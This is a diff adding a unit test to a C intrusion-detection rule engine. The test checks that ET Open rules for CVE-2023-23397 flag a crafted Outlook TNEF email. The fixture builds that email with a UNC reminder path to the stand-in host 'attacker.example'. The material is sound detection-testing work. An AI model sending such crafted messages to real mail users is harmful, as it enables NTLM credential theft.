@@ -19,6 +19,8 @@
 #include "parsers/anomaly.h"
 #include "parsers/fields.h"
 #include "rules/address.h"
+#include "rules/match.h"
+#include "rules/reference.h"
 #include "rules/ruleset.h"
 
 /* ---- a recording diagnostic sink ---- */
@@ -931,6 +933,143 @@ static void test_rule_parse_default_diag_limits_each_reason(void **state)
     sk_ruleset_free(rs);
 }
 
+static size_t b64enc(const uint8_t *in, size_t n, char *out)
+{
+    static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    size_t o = 0;
+    for (size_t i = 0; i < n; i += 3) {
+        uint32_t v = (uint32_t)in[i] << 16;
+        if (i + 1 < n)
+            v |= (uint32_t)in[i + 1] << 8;
+        if (i + 2 < n)
+            v |= in[i + 2];
+        out[o++] = abc[(v >> 18) & 63];
+        out[o++] = abc[(v >> 12) & 63];
+        out[o++] = i + 1 < n ? abc[(v >> 6) & 63] : '=';
+        out[o++] = i + 2 < n ? abc[v & 63] : '=';
+        if (o % 78 == 76) {
+            out[o++] = '\r';
+            out[o++] = '\n';
+        }
+    }
+    return o;
+}
+
+static void utf16(const char *s, uint8_t *out, size_t *n)
+{
+    for (size_t i = 0; s[i]; i++) {
+        out[(*n)++] = (uint8_t)s[i];
+        out[(*n)++] = 0;
+    }
+}
+
+/* The ET Open CVE-2023-23397 smtp rules (TNEF with a UNC reminder sound path, base64 in
+ * the message): they load, and each matches a crafted message on both matchers, and none
+ * matches once the UNC path is gone. Skipped without ../shared/corpus. */
+static void test_rule_parse_et_cve_2023_23397(void **state)
+{
+    char path[4200];
+    snprintf(path, sizeof(path),
+             "%s/../shared/corpus/rules/et-open-2024-04-21/emerging-exploit.rules", SK_TOP_SRCDIR);
+    FILE *f = fopen(path, "r");
+    if (f == NULL) {
+        snprintf(path, sizeof(path),
+                 "%s/../../shared/corpus/rules/et-open-2024-04-21/emerging-exploit.rules",
+                 SK_TOP_SRCDIR);
+        f = fopen(path, "r");
+    }
+    if (f == NULL)
+        skip();
+    size_t cap = 1 << 16, n = 0;
+    char *text = malloc(cap), line[8192];
+    assert_non_null(text);
+    text[0] = '\0';
+    while (fgets(line, sizeof(line), f) != NULL) {
+        if (strncmp(line, "alert smtp", 10) != 0 || strstr(line, "CVE-2023-23397") == NULL)
+            continue;
+        size_t l = strlen(line);
+        assert_true(n + l + 1 < cap);
+        memcpy(text + n, line, l + 1);
+        n += l;
+    }
+    fclose(f);
+    struct sk_ruleset *rs = NULL;
+    static const char *const vars[][2] = {
+        {"HOME_NET", "[10.0.0.0/8]"}, {"SMTP_SERVERS", "$HOME_NET"}, {NULL, NULL}};
+    struct diags ds = {0};
+    struct sk_ruleset_config cfg = {
+        .address_vars = vars,
+        .classification_file = SK_TOP_SRCDIR "/rules/classification.config",
+        .reference_file = SK_TOP_SRCDIR "/rules/reference.config",
+        .diag = record,
+        .diag_ctx = &ds,
+    };
+    assert_int_equal(sk_ruleset_new(&rs, &cfg), 0);
+    assert_int_equal(sk_ruleset_load_string(rs, "cve.rules", text), 0);
+    free(text);
+    size_t nr = sk_ruleset_count(rs);
+    if (ds.errors)
+        fail_msg("%s", ds.v[0].msg);
+    assert_true(nr >= 7);
+
+    /* the decoded attachment: TNEF signature, every message class the rules look for,
+     * then a UNC path */
+    uint8_t tnef[512];
+    size_t tl = 0;
+    memcpy(tnef, "\x78\x9f\x3e\x22", 4);
+    tl = 4;
+    utf16("IPM.Task", tnef, &tl);
+    static const char ascii[] = "\0IPM.Task IPM.Microsoft Mail.Note ";
+    memcpy(tnef + tl, ascii, sizeof(ascii) - 1);
+    tl += sizeof(ascii) - 1;
+    utf16("IPM.Microsoft Mail.Note", tnef, &tl);
+    tnef[tl++] = 0;
+    utf16("IPM.Task", tnef, &tl);
+    size_t unc_at = tl;
+    static const char unc[] = "\\\\attacker.example\\x";
+    memcpy(tnef + tl, unc, sizeof(unc) - 1);
+    tl += sizeof(unc) - 1;
+    for (int pass = 0; pass < 2; pass++) {
+        /* the fast patterns (base64 of the message classes as Outlook writes them) sit in
+         * the text before the blank line */
+        char msg[2048];
+        size_t ml =
+            (size_t)snprintf(msg, sizeof(msg),
+                             "X: AElQTS5UYXNr SVBNLk1pY3Jvc29mdCBNYWlsLk5vdG "
+                             "SQBQAE0ALgBNAGkAYwByAG8AcwBvAGYAdAAgAE0AYQBpAGwALgBOAG8AdABlA "
+                             "SQBQAE0ALgBUAGEAcwBrA\r\n\r\n");
+        ml += b64enc(tnef, pass == 0 ? tl : unc_at, msg + ml);
+        struct sk_match_ctx *mc;
+        assert_int_equal(sk_match_ctx_new(&mc, 0), 0);
+        char err[256];
+        for (size_t i = 0; i < nr; i++) {
+            const struct sk_rule *r = sk_ruleset_rule(rs, i);
+            assert_int_equal(r->n_groups, 2);
+            assert_int_equal(r->groups[1].buffer, SK_BUF_BASE64_DATA);
+            void *pc[2][8] = {{0}};
+            for (size_t g = 0; g < 2; g++)
+                for (size_t m = 0; m < r->groups[g].n_matches && m < 8; m++)
+                    if (r->groups[g].matches[m].kind == SK_MATCH_PCRE)
+                        assert_int_equal(sk_match_pcre_compile(&r->groups[g].matches[m].u.pcre,
+                                                               &pc[g][m], err, sizeof(err)),
+                                         0);
+            bool got = sk_match_group_full(mc, &r->groups[0], pc[0], &r->groups[1], pc[1],
+                                           (const uint8_t *)msg, ml);
+            struct sk_ref_value v = {
+                .buffer = r->groups[0].buffer, .p = (const uint8_t *)msg, .len = ml};
+            bool ref = !got;
+            assert_int_equal(sk_reference_rule(r, &v, 1, &ref), 0);
+            if (got != (pass == 0) || ref != (pass == 0))
+                fail_msg("sid %u pass %d: matcher %d reference %d", r->sid, pass, got, ref);
+            for (size_t g = 0; g < 2; g++)
+                for (size_t m = 0; m < 8; m++)
+                    sk_match_pcre_free(pc[g][m]);
+        }
+        sk_match_ctx_free(mc);
+    }
+    sk_ruleset_free(rs);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -949,6 +1088,7 @@ int main(void)
         cmocka_unit_test(test_rule_parse_reasons_grouped),
         cmocka_unit_test(test_rule_parse_missing_file_and_keywords_list),
         cmocka_unit_test(test_rule_parse_default_diag_limits_each_reason),
+        cmocka_unit_test(test_rule_parse_et_cve_2023_23397),
     };
     return cmocka_run_group_tests(tests, write_configs, remove_configs);
 }
